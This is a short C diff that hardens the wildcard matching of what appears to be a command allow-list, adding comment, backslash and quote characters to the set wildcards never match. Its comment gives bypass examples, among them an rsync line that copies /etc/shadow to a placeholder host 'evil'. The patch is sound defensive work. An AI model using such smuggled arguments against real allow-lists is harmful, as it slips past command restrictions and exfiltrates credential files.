@@ -19,10 +19,15 @@
 #include "xmalloc.h"
 
 /*
- * What no wildcard ever matches: a line break, and every character with
- * which sh appends a second command or a substitution to an allowed one.
+ * What no wildcard ever matches: a line break, every character with which
+ * sh appends a second command or a substitution to an allowed one, and
+ * those that change how sh reads the rule's fixed text after the wildcard:
+ * a '#' makes it a comment (`deploy * --dry-run` would allow `deploy prod
+ * # --dry-run`), a backslash or a quote joins it to the word before
+ * (`rsync -a * /backup/` would allow `rsync -a /etc/shadow evil:x\
+ * /backup/`, which copies to the host evil).
  */
-#define ALLOW_NEVER	"\n\r;&|`$()<>"
+#define ALLOW_NEVER	"\n\r;&|`$()<>#\\'\""
 
 enum tok_kind {
 	TOK_LIT,	/* one byte, exactly */
